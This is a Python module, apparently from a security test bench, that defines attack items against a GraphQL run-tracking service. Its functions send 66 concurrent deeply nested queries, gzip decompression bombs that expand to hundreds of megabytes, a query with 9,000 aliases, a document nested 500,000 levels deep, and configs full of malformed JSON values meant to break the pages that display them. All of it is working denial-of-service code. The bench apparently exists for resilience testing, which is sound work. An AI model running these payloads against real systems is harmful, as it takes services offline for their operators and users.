"""Item 6: requests that cost far more than they weigh. Item 7: values nobody can show."""

import json
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor

from bench.hostile.target import ATTACKER, PROJECT, Attack, Target, told

RUN = """mutation U($name: String!, $project: String!, $config: JSONString) { upsertBucket(input: {
  modelName: $project, name: $name, config: $config}) { bucket { id } } }"""
INNER = "project { runs(first: 100) { edges { node { name config %s } } } }"


def nested(target: Target) -> str:
    """66 requests at once, each of runs of runs of runs."""
    for number in range(60):
        target.ask(RUN, name=f"r{number}", project=PROJECT, config="{}")
    inner = "id"
    for _ in range(3):
        inner = INNER % inner
    document = (
        "query Q($p: String!) { project(name: $p) { runs(first: 100) { edges { node { "
        + inner
        + " } } } } }"
    )
    body = json.dumps({"query": document, "variables": {"p": PROJECT}}).encode()

    def send(_: int) -> int:
        return target.send("POST", "/graphql", body, timeout_s=20)[0]

    with ThreadPoolExecutor(66) as pool:
        statuses = list(pool.map(send, range(66)))
    return ", ".join(f"{statuses.count(s)} times {s or 'no answer'}" for s in sorted(set(statuses)))


def packed(path: str, begin: bytes, piece: bytes, n: int, end: bytes) -> Callable[[Target], str]:
    """A small gzipped body that unfolds into a piece n times."""

    def act(target: Target) -> str:
        packer = zlib.compressobj(9, wbits=31)
        parts = [begin, *(piece for _ in range(n)), end]
        small = b"".join([*(packer.compress(part) for part in parts), packer.flush()])
        target.ask(RUN, name="r", project=PROJECT, config="{}")
        found = [
            target.send("POST", path, small, {"Content-Encoding": "gzip"})[:2] for _ in range(8)
        ]
        status, text = found[-1]
        return f"{len(small) / 1e3:.0f} kB each: {told(status, text.decode(errors='replace'))}"

    return act


def many(document: str) -> Callable[[Target], str]:
    """One document, 20 times."""

    def act(target: Target) -> str:
        found = [target.ask(document) for _ in range(20)]
        return told(*found[-1])

    return act


def odd_values(target: Target) -> str:
    """Configs that no JSON reader likes, then the pages that show them."""
    odd = {"wide": 10**400, "half": "\ud800", "nan": float("nan"), "nul": "\0", "deep": [[[[]]]]}
    config = json.dumps({name: {"value": value} for name, value in odd.items()})
    for number in range(50):
        target.ask(RUN, name=f"r{number}", project=PROJECT, config=config)
    session = target.sign_in()
    statuses = [
        target.send("GET", path, headers=session)[0]
        for path in (
            f"/-/projects/{ATTACKER}/{PROJECT}/runs",
            f"/-/runs/{ATTACKER}/{PROJECT}/r0/overview",
            f"/{ATTACKER}/{PROJECT}/compare?runs=r0,r1",
        )
    ]
    return f"table, overview, comparison: {', '.join(map(str, statuses))}"


STREAM = f"/files/{ATTACKER}/{PROJECT}/r/file_stream"
LINES = b'{"files": {"output.log": {"offset": 0, "content": ['
ALIASES = " ".join(f"a{i}: viewer {{ username }}" for i in range(9_000))
ATTACKS = [
    Attack(6, "66 requests of runs of runs of runs", nested),
    Attack(
        6,
        "500 MB packed into a request",
        packed("/graphql", b'{"query": "', b" " * (1 << 20), 500, b'"}'),
    ),
    Attack(
        6,
        "15 million empty lines, packed",
        packed(STREAM, LINES, b'"",' * 10_000, 1_500, b'""]}}}'),
    ),
    Attack(6, "100,000 brackets", packed("/graphql", b'{"a": ', b"[", 100_000, b"")),
    Attack(6, "9,000 times the same field", many("{ " + ALIASES + " }")),
    Attack(6, "a document of 500,000 levels", many("{ a" * 500_000)),
    Attack(7, "values of every odd kind", odd_values),
]
